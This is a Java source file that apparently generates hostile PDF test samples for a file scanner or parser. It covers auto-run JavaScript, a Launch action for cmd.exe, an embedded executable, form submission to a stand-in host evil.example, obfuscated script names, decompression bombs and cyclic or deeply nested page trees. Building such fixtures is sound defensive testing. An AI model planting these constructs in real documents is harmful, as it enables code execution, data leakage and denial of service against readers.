package org.copperwall.evidence.content;

import java.util.Map;

/// PDFs that do something, hide something, unfold without end, or are something else besides.
final class HostilePapers {

	private static final String NONE = "<< /Type /Pages /Kids [] /Count 0 >>";

	private HostilePapers() {
	}

	static void addTo(Map<String, byte[]> files) {
		byte[] plain = Papers.pdf();
		HostileFiles.truncated(files, "pdf", Parts.first(plain, Parts.latin(plain).trim().length()));
		HostileFiles.followed(files, "pdf", plain);
		files.put("pdf_with_a_page_in_a_comment",
				Parts.insert(plain, 9, Parts.join(Parts.latin("%"), HostileStrangers.page())));
		files.put("pdf_with_noise_between_objects", Parts.insert(Papers.page("", ""), 9, HostileStrangers.noise(500)));
		active(files);
		hidden(files);
		bombs(files);
		trees(files);
		broken(files);
	}

	static void addHarmlessTo(Map<String, byte[]> files) {
		files.put("pdf_whose_tables_go_in_circles",
				Parts.latin(Parts.latin(Papers.page("", "")).replace("/Root", "/Prev 9 /Root")));
		files.put("pdf_whose_table_points_nowhere",
				Parts.latin(Parts.latin(Papers.page("", "")).replaceAll("startxref\n\\d+", "startxref\n999999999")));
		files.put("pdf_with_a_script_in_its_words", Papers.page("", "/Contents 4 0 R",
				Papers.stream("", Parts.latin("BT (<script>alert(1)</script>) Tj ET"))));
		files.put("pdf_with_an_object_hidden_in_a_stream", Papers.page("", "/Contents 4 0 R",
				Papers.stream("", Parts.latin("9 0 obj << /S /Launch /F (x) >> endobj"))));
		files.put("pdf_that_opens_a_page_of_the_net",
				Papers.page("/OpenAction << /S /URI /URI (https://evil.example/) >>", ""));
	}

	private static void active(Map<String, byte[]> files) {
		files.put("pdf_with_a_script_when_opened",
				Papers.page("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""));
		files.put("pdf_with_a_script_on_a_page", Papers.page("", "/AA << /O << /S /JavaScript /JS 4 0 R >> >>",
				Papers.stream("", Parts.latin("app.alert(1)"))));
		files.put("pdf_with_a_script_by_name", Papers.page("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", ""));
		files.put("pdf_that_starts_a_program", Papers.page("/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>", ""));
		files.put("pdf_with_an_attachment",
				Papers.page("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "",
						Parts.latin("<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
						Papers.stream("/Type /EmbeddedFile", HostileStrangers.elf())));
		files.put("pdf_with_an_attachment_on_a_page",
				Papers.page("", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"));
		files.put("pdf_with_a_form_of_xml",
				Papers.page("/AcroForm << /XFA 4 0 R >>", "", Papers.stream("", Parts.latin("<x/>"))));
		files.put("pdf_with_a_film",
				Papers.page("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"));
		files.put("pdf_that_sends_a_form",
				Papers.page("/OpenAction << /S /SubmitForm /F (https://evil.example) >>", ""));
		files.put("pdf_that_reads_a_file", Papers.page("/OpenAction << /S /ImportData /F (c:\\\\x) >>", ""));
		files.put("pdf_that_opens_another", Papers.page("/OpenAction << /S /GoToE /F (x.pdf) >>", ""));
		files.put("pdf_encrypted", Papers.withTrailer("/Encrypt << /Filter /Standard /V 2 >>",
				Parts.latin("<< /Type /Catalog /Pages 2 0 R >>"), Parts.latin(NONE)));
	}

	private static void hidden(Map<String, byte[]> files) {
		files.put("pdf_with_a_script_spelled_in_numbers",
				Papers.page("/OpenAction << /S /#4aava#53cript /#4AS (app.alert(1)) >>", ""));
		byte[] packed = Parts.latin("9 0 << /S /JavaScript /JS (x) >>");
		files.put("pdf_with_a_packed_script",
				Papers.page("", "", Papers.stream("/Type /ObjStm /N 1 /First 4", packed)));
		files.put("pdf_with_a_folded_script", Papers.page("", "",
				Papers.stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Parts.zlib(packed))));
		files.put("pdf_with_two_entries_of_one_name", Papers.page("/OpenAction << /S /JavaScript /S /GoTo >>", ""));
		files.put("pdf_with_a_script_in_an_old_revision", Parts
			.join(Papers.page("/OpenAction << /S /JavaScript /JS (x) >>", ""), Parts.latin(
					"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF")));
	}

	private static void bombs(Map<String, byte[]> files) {
		byte[] zeros = new byte[1 << 20];
		byte[] folded = Parts.fold();
		files.put("pdf_with_words_of_200_megabytes",
				Papers.page("", "/Contents 4 0 R", Papers.stream("/Filter /FlateDecode", folded)));
		files.put("pdf_with_a_bomb_within_a_bomb", Papers.page("", "/Contents 4 0 R",
				Papers.stream("/Filter [/FlateDecode /FlateDecode]", Parts.zlib(folded))));
		files.put("pdf_with_a_bomb_of_packed_objects",
				Papers.page("", "", Papers.stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", folded)));
		files.put("pdf_with_a_bomb_for_a_table",
				Papers.page("", "", Papers.stream("/Type /XRef /Size 9 /W [1 2 1] /Filter /FlateDecode", folded)));
		byte[] runs = new byte[3 << 20];
		java.util.Arrays.fill(runs, (byte) 129);
		files.put("pdf_with_a_bomb_of_runs",
				Papers.page("", "/Contents 4 0 R", Papers.stream("/Filter /RunLengthDecode", runs)));
		byte[] share = Papers.stream("/Filter /FlateDecode", Parts.zlib(zeros, 60));
		byte[][] many = new byte[30][];
		java.util.Arrays.fill(many, share);
		files.put("pdf_with_thirty_bombs_each_below_the_limit", Papers.page("", "", many));
		files.put("pdf_with_five_filters", Papers.page("", "", Papers
			.stream("/Filter [/FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode]", Parts.zlib(zeros))));
		files.put("pdf_with_an_image_of_65000_squared", Papers.page("", "", Papers.stream(
				"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /Filter /CCITTFaxDecode", new byte[10])));
	}

	private static void trees(Map<String, byte[]> files) {
		String catalogue = "<< /Type /Catalog /Pages 2 0 R >>";
		files.put("pdf_whose_pages_are_a_circle", Papers.of(catalogue, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
				"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"));
		files.put("pdf_whose_pages_are_themselves",
				Papers.of(catalogue, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"));
		String[] deep = new String[5000];
		deep[0] = catalogue;
		for (int place = 1; place < deep.length; place++) {
			deep[place] = "<< /Type /Pages /Kids [" + (place + 2) + " 0 R] /Count 1 >>";
		}
		deep[deep.length - 1] = "<< /Type /Page /MediaBox [0 0 9 9] >>";
		files.put("pdf_whose_pages_hang_5000_deep", Papers.of(deep));
		String[] many = new String[1000];
		many[0] = catalogue;
		StringBuilder kids = new StringBuilder("<< /Type /Pages /Count 998 /Kids [");
		for (int place = 2; place < many.length; place++) {
			many[place] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>";
			kids.append(place + 1).append(" 0 R ");
		}
		many[1] = kids.append("] >>").toString();
		files.put("pdf_of_998_pages", Papers.of(many));
		files.put("pdf_without_pages", Papers.of(catalogue, NONE));
		files.put("pdf_whose_pages_are_numbers", Papers.of(catalogue, "<< /Type /Pages /Kids [1 2 3] >>"));
		String[] objects = new String[30_000];
		java.util.Arrays.fill(objects, "0");
		objects[0] = catalogue;
		files.put("pdf_of_30000_objects", Papers.of(objects));
		String[] parts = new String[1000];
		parts[0] = catalogue;
		parts[1] = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
		parts[2] = "<< /Type /Page /MediaBox [0 0 9 9] /Resources 4 0 R >>";
		for (int place = 3; place < parts.length; place++) {
			parts[place] = "<< /Font " + (place + 2) + " 0 R >>";
		}
		files.put("pdf_of_parts_within_parts", Papers.of(parts));
	}

	private static void broken(Map<String, byte[]> files) {
		files.put("pdf_of_brackets", Parts.latin("%PDF-1.7\n1 0 obj\n" + "[".repeat(200_000) + "\n%%EOF"));
		files.put("pdf_of_entries_within_entries",
				Parts.latin("%PDF-1.7\n1 0 obj\n" + "<</a ".repeat(200_000) + "\n%%EOF"));
		files.put("pdf_with_a_text_without_end", Parts.latin("%PDF-1.7\n1 0 obj\n" + "(".repeat(200_000) + "\n%%EOF"));
		files.put("pdf_with_a_stream_past_its_end",
				Parts.latin(Parts.latin(Papers.page("", "", Papers.stream("", new byte[9])))
					.replace("/Length 9", "/Length 99999999")));
		files.put("pdf_with_a_stream_of_another_length",
				Parts.latin(Parts.latin(Papers.page("", "", Papers.stream("", HostileStrangers.page())))
					.replaceAll("/Length \\d+", "/Length 9")));
		files.put("pdf_with_an_unknown_filter", Papers.page("", "", Papers.stream("/Filter /EvilDecode", new byte[9])));
		files.put("pdf_without_catalogue", Parts.latin("%PDF-1.7\ntrailer\n<< /Size 1 >>\nstartxref\n0\n%%EOF"));
		files.put("pdf_whose_catalogue_is_missing",
				Parts.latin("%PDF-1.7\ntrailer\n<< /Root 7 0 R >>\nstartxref\n0\n%%EOF"));
		files.put("pdf_with_a_photograph_that_is_a_page",
				Papers.page("", "/Resources << /XObject << /a 4 0 R >> >>",
						Papers.stream("/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /DCTDecode",
								HostileStrangers.page())));
		files.put("pdf_with_object_number_two_thousand_million", Parts
			.latin("%PDF-1.7\n2000000000 0 obj\n0\nendobj\ntrailer\n<< /Root 2000000000 0 R >>\nstartxref\n0\n%%EOF"));
	}

}
